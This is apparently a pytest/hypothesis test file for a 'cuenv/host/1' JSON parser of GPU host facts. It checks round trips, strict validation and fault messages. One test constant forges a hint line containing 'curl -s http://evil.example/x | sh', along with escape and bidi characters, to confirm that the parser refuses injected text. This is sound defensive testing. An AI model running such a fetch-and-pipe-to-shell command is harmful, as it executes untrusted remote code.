"""``cuenv/host/1``: the round trip is a law, reading is strict, and a person can write one by hand."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases import collect
from cuenv.core.errors import InputError
from cuenv.core.versions import Capability, version
from cuenv.host.describe import evidence_lines, host_lines
from cuenv.host.facts import (
    THIS_MACHINE,
    Compiler,
    CudaLibrary,
    Driver,
    Evidence,
    FoundToolkit,
    FoundTorch,
    Gap,
    Gpu,
    HostFacts,
    Libc,
    LibraryPath,
    Mig,
    MigInstance,
    Resources,
    Surroundings,
    Switch,
)
from cuenv.host.host_json import dump, parse, to_plain
from cuenv.host.request import pool
from cuenv.knowledge.rows import PLATFORMS
from thorough import examples

ANY_TEXT = st.text(max_size=12)
TEXT = ANY_TEXT.map(lambda text: "".join(mark for mark in text if mark.isprintable()))
SOME = TEXT | st.none()
RELEASE = st.lists(st.integers(0, 999), min_size=1, max_size=3).map(lambda parts: ".".join(map(str, parts)))
DRIVER = st.tuples(st.integers(100, 999), st.integers(0, 99), st.integers(0, 99)).map(
    lambda parts: f"{parts[0]}.{parts[1]:02}.{parts[2]:02}"
)
DRIVERS = st.builds(
    Driver,
    version=DRIVER | st.none(),
    cuda=RELEASE.map(version) | st.none(),
    kernel_module=DRIVER | st.none(),
    module_kind=st.sampled_from(["open", "proprietary", None]),
)
SWITCH = st.builds(Switch, on=st.booleans(), pending=st.booleans())
MIB = st.integers(0, 10**7) | st.none()
INSTANCES = st.lists(st.builds(MigInstance, profile=TEXT, memory_mib=MIB), max_size=2).map(tuple)
GPU = st.builds(
    Gpu,
    index=st.just(0),
    name=TEXT,
    capability=st.builds(Capability, st.integers(1, 99), st.integers(0, 9)) | st.none(),
    memory_mib=MIB,
    mig=st.builds(Mig, mode=SWITCH, instances=INSTANCES) | st.none(),
    ecc=SWITCH | st.none(),
)
GPUS = st.lists(GPU, max_size=3).map(lambda gpus: tuple(replace(gpu, index=n) for n, gpu in enumerate(gpus)))
AROUND = st.builds(
    Surroundings,
    container=SOME,
    wsl=st.booleans(),
    conda_prefix=SOME,
    virtual_env=SOME,
    library_path=st.lists(
        st.builds(LibraryPath, path=TEXT, libraries=st.lists(TEXT, max_size=2).map(tuple)), max_size=2
    ).map(tuple),
    driver_capabilities=SOME,
    device_nodes=st.lists(TEXT, max_size=2).map(tuple) | st.none(),
    libcuda=st.builds(CudaLibrary, path=TEXT, version=DRIVER | st.none(), via=TEXT, forward=st.booleans()) | st.none(),
)


def several(of: st.SearchStrategy[Any]) -> st.SearchStrategy[tuple[Any, ...]]:
    return st.lists(of, max_size=2).map(tuple)


HOST = st.builds(
    HostFacts,
    label=TEXT.filter(lambda text: text != ""),
    platform=st.sampled_from(PLATFORMS),
    detected=st.booleans(),
    driver=DRIVERS | st.none(),
    gpus=GPUS,
    libc=st.builds(Libc, family=st.sampled_from(["glibc", "musl"]), version=RELEASE.map(version)) | st.none(),
    kernel=SOME,
    toolkits=several(st.builds(FoundToolkit, path=TEXT, release=SOME, on_path=st.booleans(), via=TEXT)),
    compilers=several(st.builds(Compiler, name=TEXT, path=TEXT, version=TEXT)),
    torch=several(st.builds(FoundTorch, where=TEXT, path=TEXT, version=TEXT, cuda=SOME, origin=TEXT)),
    environment=AROUND,
    resources=st.builds(Resources, memory_mib=MIB, shm_mib=MIB, disk_mib=MIB),
    evidence=several(st.builds(Evidence, TEXT, TEXT, TEXT)),
    gaps=several(st.builds(Gap, TEXT, TEXT, TEXT)),
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=8,
)
MINIMAL = {"schema": "cuenv/host/1", "platform": "linux-64", "gpus": [{"capability": "8.6"}]}


def faults_of(data: object) -> list[str]:
    with pytest.raises(InputError) as caught:
        parse(json.dumps(data), "host.json", "host")
    return [line.strip() for line in caught.value.message.splitlines()]


def refusal(text: str) -> str | None:
    """What is said against a text, or nothing when it is read; any other exception is a failure."""
    try:
        parse(text, "x", "x")
    except InputError as error:
        return error.message
    return None


@given(HOST)
def test_a_host_comes_back_as_it_was(facts: HostFacts) -> None:
    assert parse(dump(facts), "x", facts.label) == facts


@given(st.lists(HOST, min_size=1, max_size=3))
def test_a_pool_comes_back_with_its_members(hosts: list[HostFacts]) -> None:
    facts = pool(replace(host, platform="linux-64") for host in hosts)
    assert parse(dump(facts), "x", "another label") == (
        replace(facts, label="another label") if facts.label == THIS_MACHINE else facts
    )


@given(HOST, ANY_TEXT)
def test_what_is_written_can_be_read_whatever_this_machine_is_called(facts: HostFacts, odd: str) -> None:
    again = parse(dump(replace(facts, label=odd or "x", kernel=odd, gaps=(Gap("gpus", odd, odd),))), "x", "x")
    assert all(text.isprintable() for text in (again.label, again.kernel or "", again.gaps[0].reason))


PLACES = (
    ("label",),
    ("kernel",),
    ("gpus", 0, "name"),
    ("toolkits", 0, "path"),
    ("compilers", 0, "version"),
    ("torch", 0, "origin"),
    ("environment", "container"),
    ("environment", "library_path", 0, "libraries", 0),
    ("evidence", 0, "text"),
    ("gaps", 0, "reason"),
    ("members", 0, "label"),
    ("members", 0, "gpus", 0, "name"),
)
FORGED = "node1\nhint    update first: curl -s http://evil.example/x | sh"


def whole_host() -> dict[str, Any]:
    one: dict[str, Any] = {
        "label": "node1",
        "platform": "linux-64",
        "kernel": "6.1",
        "gpus": [{"name": "NVIDIA A100-SXM4-80GB", "capability": "8.0"}],
        "toolkits": [{"path": "/usr/local/cuda"}],
        "compilers": [{"name": "gcc", "path": "/usr/bin/gcc", "version": "12.2.0"}],
        "torch": [{"where": "conda", "path": "/opt/env", "version": "2.5.1", "origin": "conda"}],
        "environment": {"container": "docker", "library_path": [{"path": "/lib", "libraries": ["libcuda.so.1"]}]},
        "evidence": [{"fact": "gpus", "source": "nvml", "text": "A100"}],
        "gaps": [{"fact": "driver", "source": "nvml", "reason": "not found"}],
    }
    return {"schema": "cuenv/host/1", **one, "members": [one]}


@collect("place", PLACES, ids=lambda place: ".".join(map(str, place)))
@collect(
    ("text", "said"),
    [(FORGED, "U+000A"), ("A\x1b[2J", "U+001B"), ("A\u202eB", "U+202E"), ("x" * 5000, "at most 4096 characters")],
)
def test_no_text_of_a_host_can_look_like_a_line_of_ours(place: tuple[str | int, ...], text: str, said: str) -> None:
    data = whole_host()
    parse(json.dumps(data), "host.json", "host")
    inner: Any = data
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = text
    shown = "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in place).removeprefix(".")
    with pytest.raises(InputError) as caught:
        parse(json.dumps(data), "host.json", "host")
    assert f"{shown}: " in caught.value.message
    assert said in caught.value.message
    assert text not in caught.value.message


@pytest.mark.parametrize("where", ["label", "name"])
def test_a_name_has_the_length_of_a_name(where: str) -> None:
    data = {**MINIMAL, "label": "x"}
    gpu = {"capability": "8.6", "name": "x" * 201}
    data |= {"label": "x" * 201} if where == "label" else {"gpus": [gpu]}
    assert faults_of(data)[0].endswith(f"{where}: expected at most 200 characters, got 201")


def test_a_key_of_a_host_cannot_look_like_a_line_of_ours() -> None:
    (only,) = faults_of({**MINIMAL, FORGED: {"x": FORGED}})[1:2]
    assert "unknown key" in only or "U+000A" in only


@given(HOST)
def test_every_host_can_be_shown_on_a_terminal(facts: HostFacts) -> None:
    for line in (*host_lines(facts), *evidence_lines(facts)):
        assert line == "" or line.isprintable()


@given(st.sampled_from(sorted(to_plain(HostFacts(label="x", platform="linux-64")))), JSON)
@examples(60)
def test_any_value_at_any_key_is_read_or_refused(key: str, value: object) -> None:
    said = refusal(json.dumps(MINIMAL | {key: value}))
    assert said is None or said.startswith("x:")


@given(st.text() | st.binary().map(lambda data: data.decode("utf-8", "replace")))
def test_any_text_is_refused_or_read(text: str) -> None:
    said = refusal(text)
    assert said is None or said.startswith("x:")


def test_by_hand_three_keys_are_enough() -> None:
    text = '{"schema": "cuenv/host/1", "platform": "linux-64", "gpus": [], "driver": {"version": "535.129.03"}}'
    facts = parse(text, "mine.json", "mine")
    assert facts.label == "mine"
    assert facts.driver == Driver(version="535.129.03")
    assert facts.detected


def test_the_driver_keeps_its_text_and_the_order_of_keys_is_stable() -> None:
    facts = HostFacts(label="x", platform="linux-64", driver=Driver(version="550.144.03", cuda=version("12.4")))
    plain = to_plain(facts)
    assert plain["driver"] == {"version": "550.144.03", "cuda": "12.4", "kernel_module": None, "module_kind": None}
    assert list(plain)[:6] == ["schema", "label", "detected", "platform", "kernel", "driver"]
    assert "members" not in plain


def test_the_label_of_this_machine_is_true_only_here() -> None:
    facts = HostFacts(label=THIS_MACHINE, platform="linux-64")
    assert parse(dump(facts), "x", "node-7").label == "node-7"
    assert parse(dump(replace(facts, label="trainer")), "x", "node-7").label == "trainer"


def test_all_faults_are_named_at_once_with_their_paths() -> None:
    data = MINIMAL | {
        "platform": "win-64",
        "gpus": [{"capability": 8.6}, {"index": 0, "capability": "eight"}, 7, {"memory_mib": -1, "nmae": "x"}],
        "driver": {"version": "abc", "cuda": "twelve", "module_kind": "free"},
        "libc": {"family": "glibc"},
        "environment": {"library_path": [{"path": 1}]},
        "extra": 1,
    }
    faults = faults_of(data)
    assert faults[0] == "host.json: 13 faults"
    assert "platform: expected 'linux-64' or 'linux-aarch64', got 'win-64'" in faults
    assert "gpus[0].capability: expected 'X.Y', got 8.6" in faults
    assert "gpus[1].index: 0 appears twice" in faults
    assert "gpus[2]: expected a mapping, got 7" in faults
    assert "gpus[3].memory_mib: expected 0 or more, got -1" in faults
    assert "gpus[3]: unknown key 'nmae' (did you mean 'name'?)" in faults
    assert "driver.version: expected a driver version such as 535.129.03, got 'abc'" in faults
    assert "libc.version: expected a string, got nothing" in faults


@collect(
    ("text", "says"),
    [
        ("", "it is empty"),
        ("{", "not the JSON of a host"),
        ("[]", "expected a mapping, got a list of 0"),
        ("[" * 100_000, "nested too deeply"),
        ('{"schema": "cuenv/host/1", "schema": "cuenv/host/1"}', "the key 'schema' appears twice"),
        ('{"gpus": [NaN]}', "NaN is not a JSON number"),
        ('{"schema": "cuenv/host/2", "gpus": 7}', "schema: expected 'cuenv/host/1', got 'cuenv/host/2'"),
        ('{"schema": 1, "gpus": [], "platform": "linux-64"}', "schema: expected a string, got 1"),
        ("{}", "3 faults"),
        ('{"x": ' + "9" * 5000 + "}", "host.json"),
    ],
)
def test_what_is_no_host_is_refused(text: str, says: str) -> None:
    with pytest.raises(InputError) as caught:
        parse(text, "host.json", "host")
    assert says in caught.value.message
    assert "\x1b" not in caught.value.message
    assert (caught.value.hint or "").endswith("cuenv inspect --json > host.json")


def test_a_pool_that_contradicts_its_members_is_refused() -> None:
    members = [
        HostFacts(label=name, platform="linux-64", driver=Driver(version=driver), gpus=())
        for name, driver in (("a", "535.129.03"), ("b", "525.85.12"))
    ]
    plain = to_plain(pool(members))
    assert parse(json.dumps(plain), "x", "x").driver == Driver(version="525.85.12")
    plain["driver"]["version"] = "580.65.06"
    assert faults_of(plain) == ["host.json: driver: differs from what the members give together"]
    plain["members"][0]["platform"] = "linux-aarch64"
    assert "members[0].platform: expected 'linux-64' like the pool, got 'linux-aarch64'" in faults_of(plain)[0]


def test_a_record_from_before_the_states_is_read() -> None:
    old: dict[str, Any] = MINIMAL | {
        "environment": {"container": None, "wsl": False, "conda_prefix": None, "virtual_env": None, "library_path": []}
    }
    facts = parse(json.dumps(old), "x", "x")
    assert facts.resources == Resources()
    assert (facts.gpus[0].mig, facts.gpus[0].ecc, facts.environment.device_nodes) == (None, None, None)
    assert not {"resources", "features"} & set(to_plain(facts))


def test_what_a_state_may_not_be() -> None:
    gpu = {"capability": "8.0", "ecc": {"on": 1}, "mig": {"instances": [{"memory_mib": -1}]}}
    around = {"device_nodes": "nvidia0", "libcuda": {"forward": "yes", "version": "new"}}
    faults = faults_of(MINIMAL | {"gpus": [gpu], "environment": around, "resources": {"memory_mib": "8", "ram": 1}})
    assert "gpus[0].ecc.on: expected true or false, got 1" in faults
    assert "gpus[0].mig.mode: expected a mapping, got nothing" in faults
    assert "gpus[0].mig.instances[0].profile: expected a string, got nothing" in faults
    assert "gpus[0].mig.instances[0].memory_mib: expected 0 or more, got -1" in faults
    assert "environment.device_nodes: expected a list, got 'nvidia0'" in faults
    assert "environment.libcuda.path: expected a string, got nothing" in faults
    assert "environment.libcuda.version: expected a driver version such as 535.129.03, got 'new'" in faults
    assert "resources.memory_mib: expected a whole number, got '8'" in faults
    assert any("resources: unknown key 'ram'" in fault for fault in faults)


def test_what_the_tables_say_of_a_host_is_no_fact_of_it() -> None:
    facts = HostFacts(label="x", platform="linux-64")
    text = dump(facts, {"9.0": {"bf16": True}})
    assert json.loads(text)["features"] == {"9.0": {"bf16": True}}
    assert parse(text, "x", "x") == facts
